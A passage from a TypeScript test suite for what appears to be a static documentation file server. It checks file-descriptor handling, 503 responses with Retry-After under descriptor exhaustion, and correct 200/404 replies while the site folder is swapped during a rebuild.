      await expect.poll(() => server.fds()).toBeLessThanOrEqual(baseline + 2);
      expect((await send('/doc/big.bin', { Range: 'bytes=0-3' })).status).toBe(206);
      expect(server.exited()).toBe(false);
    } finally {
      await server.stop();
    }
  });

  it('should answer 503 when out of file descriptors, keep running, and recover', async () => {
    const server = await startChild(site, 64);
    const connections: Socket[] = [];
    try {
      // Each kept-alive connection holds one descriptor; one of them is opened when the last free
      // descriptor has just gone to its socket, so the file it asks for cannot be opened. (A
      // connection the server could not even accept, while the previous file was still being
      // closed, is dropped and the next one tried.)
      let refused: { status: number; headers: string } | undefined;
      for (let attempt = 0; attempt < 200 && !refused && !server.exited(); attempt += 1) {
        const connection = await keepAlive(server.origin).catch(() => undefined);
        if (!connection) continue;
        connections.push(connection.socket);
        const reply = await connection.get('/doc/sitemap.xml').catch(() => undefined);
        if (reply && reply.status !== 200) refused = reply;
      }
      expect(refused?.status).toBe(503);
      expect(refused?.headers).toMatch(/\r\nRetry-After: \d+/i);
      expect(server.exited()).toBe(false);
      for (const socket of connections) socket.destroy();
      await expect.poll(async () => (await client(server.origin)('/doc/sitemap.xml').catch(() => ({ status: 0 }))).status).toBe(200);
    } finally {
      for (const socket of connections) socket.destroy();
      await server.stop();
    }
  });

  it('should answer 200 or 404, never fail or exit, while a rebuild swaps the site folder', async () => {
    const swapped = join(workspace, 'swap');
    const spare = join(workspace, 'swap-spare');
    const other = join(workspace, 'swap-other');
    for (const dir of [swapped, other]) {
      for (let n = 0; n < 20; n += 1) {
        mkdirSync(join(dir, `docs/page-${n}`), { recursive: true });
        writeFileSync(join(dir, `docs/page-${n}/index.html`), page);
        writeFileSync(join(dir, `docs/page-${n}/index.html.br`), brotliCompressSync(page));
        writeFileSync(join(dir, `docs/page-${n}/index.html.gz`), gzipSync(page));
      }
      writeFileSync(join(dir, '404.html'), '<h1>Page not found</h1>');
    }
    const server = await startChild(swapped);
    let swapping = true;
    const statuses = new Map<number, number>();
    try {
      // The build's swap: the old folder moves away, the new one moves in, over and over.
      const swapper = (async () => {
        let swaps = 0;
        while (swapping) {
          await rename(swapped, spare);
          await rename(other, swapped);
          await rename(spare, other);
          swaps += 1;
        }
        return swaps;
      })();
      const send = client(server.origin);
      let n = 0;
      await Promise.all(
        Array.from({ length: 8 }, async () => {
          while (n < 1600) {
            n += 1;
            const encoding = ['br', 'gzip', ''][n % 3] ?? '';
            const reply = await send(`/doc/docs/page-${n % 20}/`, encoding ? { 'Accept-Encoding': encoding } : {});
            statuses.set(reply.status, (statuses.get(reply.status) ?? 0) + 1);
          }
        }),
      );
      swapping = false;
      expect(await swapper).toBeGreaterThan(0);
      expect([...statuses.keys()].filter((status) => status !== 200 && status !== 404)).toEqual([]);
      expect(statuses.get(200)).toBeGreaterThan(0);
      expect(server.exited()).toBe(false);
      expect((await send('/doc/docs/page-1/')).status).toBe(200);
    } finally {
      swapping = false;
      await server.stop();
    }
  });
});
